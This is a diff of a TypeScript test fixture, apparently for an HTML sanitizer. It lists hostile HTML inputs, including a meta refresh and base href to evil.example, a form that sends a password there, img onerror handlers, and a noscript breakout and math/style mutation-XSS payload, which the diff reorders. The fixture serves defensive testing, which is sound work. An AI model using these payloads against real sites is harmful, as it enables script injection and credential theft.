@@ -17,13 +17,13 @@ export const hostileHtml = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
   '<form action="https://evil.example"><input name="password" autofocus onfocus="window.hacked=1"><button>Go</button></form>',
   '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
-  '</style></table></mtext></math>',
   '<img alt="<table>&quot; onload=window.hacked=1 &quot;" src="/favicon.ico">',
   // End tags that would close the page around the text.
   '<ul><li><div><li>item</li></div></li></ul></div></div></section></main></body>',
   '<table><tr><td>cell<table><tr><td>inner</td></tr></table></td></tr></table></table></div>',
   '<h1>After the storm</h1><p>Read <a href="https://fine.example/page" title="Fine">on</a>.</p>',
+  // Browsers take the rest for a comment, other readers do not.
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
 ].join('\n');
 
 const allowed: Record<string, string[]> = {
